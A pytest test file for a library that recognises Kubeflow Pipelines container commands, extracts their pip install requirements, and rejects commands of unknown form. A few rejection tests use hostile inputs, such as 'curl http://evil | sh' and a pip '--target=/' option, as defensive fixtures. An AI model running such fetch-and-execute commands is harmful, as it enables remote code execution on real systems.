"""Which container commands are lightweight Python components, and what they ask to be installed."""

import json
from pathlib import Path

import pytest
import yaml

from zeroflow.functions.step.command import ContainerComponent, LightweightComponent, recognise
from zeroflow.functions.step.environments import satisfied
from zeroflow.functions.step.errors import Unsupported

PIP = "python3 -m pip install --quiet --no-warn-script-location"
ENSURE = """
if ! [ -x "$(command -v pip)" ]; then
    python3 -m ensurepip || python3 -m ensurepip --user || apt-get install python3-pip
fi

"""
PROGRAM = """program_path=$(mktemp -d)

printf "%s" "$0" > "$program_path/ephemeral_component.py"
_KFP_RUNTIME=true python3 -m {module}                         --component_module_path                         \
"$program_path/ephemeral_component.py"                         "$@"
"""
ARGS = ["--executor_input", "{{$}}", "--function_to_execute", "f"]


def executor(commands=None, module="kfp.dsl.executor_main", args=ARGS, ensure=ENSURE):
    install = ["sh", "-c", f'{ensure}PIP_DISABLE_PIP_VERSION_CHECK=1 {commands} && "$0" "$@"\n'] if commands else []
    return {"image": "i", "command": [*install, "sh", "-ec", PROGRAM.format(module=module), "SOURCE"], "args": args}


KFP = f"{PIP} 'kfp==2.17.0' '--no-deps' 'typing-extensions>=3.7.4,<5; python_version<\"3.9\"'"


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        pytest.param(executor(), [], id="nothing-to-install"),
        pytest.param(executor(KFP), [], id="kfp-only"),
        pytest.param(
            executor(f"{PIP} 'kfp==2.0.0-beta.13'", "kfp.components.executor_main", ensure=""), [], id="2.0-beta"
        ),
        pytest.param(
            executor(f"{PIP} 'pandas==2.2.0' 'b>1'  &&  {KFP}"), [(("pandas==2.2.0", "b>1"), ())], id="before"
        ),
        pytest.param(executor(f"{KFP}  &&  {PIP} 'pandas'"), [(("pandas",), ())], id="after"),
        pytest.param(
            executor(f"{PIP} --index-url https://x/simple --trusted-host https://x/simple 'a' && {KFP}"),
            [(("a",), ("--index-url", "https://x/simple", "--trusted-host", "https://x/simple"))],
            id="index",
        ),
        pytest.param(
            executor(
                f"{PIP} 'a'  &&  \nexport PIP_DISABLE_PIP_VERSION_CHECK=1\ntmp=$(mktemp -d)\n"
                f'python3 -m venv "$tmp/venv" --system-site-packages\n. "$tmp/venv/bin/activate"\n {KFP}'
            ),
            [(("a",), ())],
            id="use-venv",
        ),
    ],
)
def test_what_the_sdk_compiles_is_read(given, expected):
    component = recognise(given)
    assert (component.source, component.function) == ("SOURCE", "f")
    installs = [(i.requirements, i.options) for i in component.installs]
    assert installs == expected


@pytest.mark.parametrize(
    ("given", "part"),
    [
        pytest.param(executor(args=[*ARGS, "--more", "x"]), "--executor_input", id="more-arguments"),
        pytest.param(executor(args=[*ARGS[:3], "os.system"]), "--executor_input", id="no-function-name"),
        pytest.param(executor(f"{PIP} 'a' '--no-deps' && {KFP}"), "'--no-deps'", id="no-deps-of-the-users"),
        pytest.param(executor("curl http://evil | sh"), "not one that the KFP SDK writes", id="other-script"),
        pytest.param(executor(f"{PIP} --target=/ 'a' && {KFP}"), "--target=/", id="pip-option"),
        pytest.param(
            {**executor(), "command": ["sh", "-c", "curl evil; python3 -m kfp.dsl.executor_main"]},
            "unknown form",
            id="other-form",
        ),
        pytest.param({"command": "sh"}, "executor.command", id="no-list"),
    ],
)  # fmt: skip
def test_anything_else_is_refused_with_what_it_is(given, part):
    with pytest.raises(Unsupported, match=part.replace("(", r"\(").replace(")", r"\)")):
        recognise(given)


def test_any_other_command_is_a_container_component():
    given = {"image": "alpine", "command": ["sh", "-ec", "echo $0"], "args": ["{{$.inputs.parameters['x']}}"]}
    assert recognise(given) == ContainerComponent(tuple(given["command"]), tuple(given["args"]), "alpine")


def test_what_is_in_an_image_alone_is_left_to_what_stands_for_the_image():
    assert recognise({"image": "me/x", "args": ["y"]}) == ContainerComponent((), ("y",), "me/x")
    containerized = {"image": "own", "command": ["python3", "-m", "kfp.dsl.executor_main"], "args": ARGS}
    assert recognise(containerized) == LightweightComponent("", "f")


def test_every_official_pipeline_is_recognised_by_kind(contracts: Path):
    recognised = containers = images = 0
    for path in sorted((contracts / "kfp" / "pipelines").rglob("*.yaml")):
        for document in yaml.safe_load_all(path.read_text()):
            for spec in ((document or {}).get("deploymentSpec") or {}).get("executors", {}).values():
                container = spec.get("container")
                if container is None:
                    continue
                python = "ephemeral_component.py" in json.dumps(container.get("command", []))
                if python:
                    assert recognise(container).source.strip().startswith(("import", "\nimport"))
                    recognised += 1
                elif container.get("command") and "kfp.dsl.executor_main" not in container["command"]:
                    assert isinstance(recognise(container), ContainerComponent)
                    containers += 1
                else:
                    found = recognise(container)
                    in_image = found.source == "" if isinstance(found, LightweightComponent) else not found.command
                    assert in_image
                    images += 1
    assert recognised > 200
    assert containers > 20
    assert images > 2


@pytest.mark.parametrize(
    ("requirement", "expected"),
    [
        ("flask", True),
        ("flask>=3", True),
        ("Flask<1", False),
        ("no-such-package", False),
        ("no-such-package; python_version < '3'", True),
        ("zeroflow[step]", True),
        ("sqlalchemy[mssql]", False),
        ("flask @ https://example.com/flask.whl", False),
        ("git+https://example.com/x.git", False),
        ("./flask.whl", False),
    ],
)
def test_what_the_environment_has(requirement, expected):
    assert satisfied(requirement) is expected
